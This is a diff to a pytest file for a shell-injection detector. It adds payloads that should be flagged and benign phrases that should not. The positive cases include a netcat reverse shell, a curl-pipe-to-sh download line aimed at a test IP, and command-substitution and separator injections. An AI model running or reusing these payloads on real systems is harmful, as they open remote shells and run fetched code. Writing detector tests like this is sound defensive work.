@@ -77,7 +77,8 @@ def test_restricted_paths(path, expected):
 @pytest.mark.parametrize("value", [
     "; cat /etc/hosts", "| nc -e /bin/sh 198.18.0.9 4444", "`id`", "$(whoami)",
     "x && curl http://198.18.0.9/a | sh", "c''url -s x", "/???/b??/w?oami", "127.0.0.1;ls -la",
-    "cmd /c dir", "FOR %i IN (*.*) DO type %i",
+    "cmd /c dir", "FOR %i IN (*.*) DO type %i", ";uname", "/usr/local/bin/node -e x",
+    "ansible-playbook --check site.yml", "cd ..; ls", "vim -c ':!sh'",
 ])
 def test_shell(value):
     assert shell.detect(value), value
@@ -86,6 +87,7 @@ def test_shell(value):
 @pytest.mark.parametrize("value", [
     "cat videos", "time for lunch", "Fish & chips; more please", "python tutorial",
     "Ping me when you're free", "find a store near me", "I'd like the id card",
+    ";ON", "SET 8 -MINI AS", "Use --force with care", "see /docs/install.html",
 ])
 def test_shell_negative(value):
     assert not shell.detect(value), value
